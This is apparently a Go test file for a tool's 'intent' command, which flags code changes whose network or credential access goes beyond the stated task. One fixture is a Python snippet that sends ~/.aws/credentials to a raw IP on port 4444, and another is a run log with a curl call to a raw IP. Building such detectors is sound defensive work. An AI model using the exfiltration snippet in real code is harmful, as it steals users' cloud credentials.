package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/airlockhq/airlock"
)

func runIntent(t *testing.T, args ...string) (int, string, string) {
	t.Helper()
	return airlockRun(t, "", append([]string{"intent"}, args...)...)
}

func TestIntentCommand(t *testing.T) {
	dir := t.TempDir()
	bad := filepath.Join(dir, "export.py")
	good := filepath.Join(dir, "clean.py")
	runJSON := filepath.Join(dir, "run.json")
	broken := filepath.Join(dir, "broken.json")
	taskFile := filepath.Join(dir, "task.txt")
	for p, c := range map[string]string{
		bad:      "import csv, socket\ns = socket.create_connection(('203.0.113.7', 4444))\ns.sendall(open('/home/u/.aws/credentials').read().encode())\n",
		good:     "import csv\n\ndef export(rows, f):\n    csv.writer(f).writerows(rows)\n",
		runJSON:  `{"processes":[{"argv":["python3","t.py"]},{"argv":["curl","http://198.51.100.9/x"]}],"network":[{"protocol":"tcp","dest":"198.51.100.9:80"}]}`,
		broken:   `{"processes": [`,
		taskFile: "Please add a CSV export\nfor the invoice list.\n",
	} {
		if err := os.WriteFile(p, []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	tests := []struct {
		name     string
		args     []string
		code     int
		contains string
	}{
		{"hidden capabilities", []string{"--task", "add CSV export", bad}, exitFindings, "203.0.113.7:4444"},
		{"clean change", []string{"--task", "add CSV export", good}, exitOK, ""},
		{"explain", []string{"--task", "add CSV export", "--explain", bad}, exitFindings, "network [sensitive]: opens a connection to the raw IP address 203.0.113.7:4444 — REPORTED"},
		{"fail-on above findings", []string{"--task", "add CSV export", "--fail-on", "critical", good}, exitOK, ""},
		{"run report", []string{"--task", "add CSV export", "--run", runJSON}, exitFindings, "the run connected to the raw IP address 198.51.100.9:80"},
		{"no task", []string{bad}, exitUsage, "--task is required"},
		{"task file", []string{"--task-file", taskFile, bad}, exitFindings, "task: 'Please add a CSV export for the invoice list.'"},
		{"task and task file", []string{"--task", "x", "--task-file", taskFile, bad}, exitUsage, "not both"},
		{"missing task file", []string{"--task-file", filepath.Join(dir, "none.txt"), bad}, exitUsage, "none.txt"},
		{"nothing to check", []string{"--task", "x"}, exitUsage, "nothing to check"},
		{"diff and files", []string{"--task", "x", "--diff", "HEAD", bad}, exitUsage, "not both"},
		{"bad run report", []string{"--task", "x", "--run", broken}, exitUsage, "run report"},
		{"missing run report", []string{"--task", "x", "--run", filepath.Join(dir, "nope.json")}, exitUsage, "nope.json"},
		{"missing file", []string{"--task", "x", filepath.Join(dir, "nope.py")}, exitUsage, "nope.py"},
		{"bad format", []string{"--task", "x", "--format", "xml", good}, exitUsage, "--format"},
		{"bad fail-on", []string{"--task", "x", "--fail-on", "huge", good}, exitUsage, "--fail-on"},
		{"judge unreachable is incomplete", []string{"--task", "add CSV export", "--llm-url", "http://127.0.0.1:1/v1", good}, exitIncomplete, "llm-judge"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			code, out, errb := runIntent(t, tt.args...)
			if code != tt.code {
				t.Fatalf("exit %d, want %d\nstdout: %s\nstderr: %s", code, tt.code, out, errb)
			}
			if tt.contains != "" && !strings.Contains(out+errb, tt.contains) {
				t.Errorf("output lacks %q:\n%s%s", tt.contains, out, errb)
			}
		})
	}

	code, out, _ := runIntent(t, "--task", "add CSV export", "--format", "json", bad)
	if code != exitFindings {
		t.Fatalf("exit %d", code)
	}
	var res airlock.Result
	if err := json.Unmarshal([]byte(out), &res); err != nil {
		t.Fatalf("json output: %v\n%s", err, out)
	}
	var got []string
	for _, f := range res.Findings {
		got = append(got, f.RuleID)
	}
	if strings.Join(got, ",") != "intent.unexpected.network,intent.unexpected.credentials" {
		t.Errorf("rules = %v", got)
	}
}

func TestIntentCorpusFlag(t *testing.T) {
	code, out, errb := runIntent(t, "--corpus", filepath.Join("..", "..", "intent", "testdata", "holdout"))
	if code != exitOK || !strings.Contains(out, "hidden capabilities reported:") || !strings.Contains(out, "benign changes flagged:") {
		t.Fatalf("exit %d\n%s%s", code, out, errb)
	}
	code, _, errb = runIntent(t, "--corpus", t.TempDir())
	if code != exitUsage || !strings.Contains(errb, "no *.txtar") {
		t.Errorf("empty corpus: exit %d %s", code, errb)
	}
}
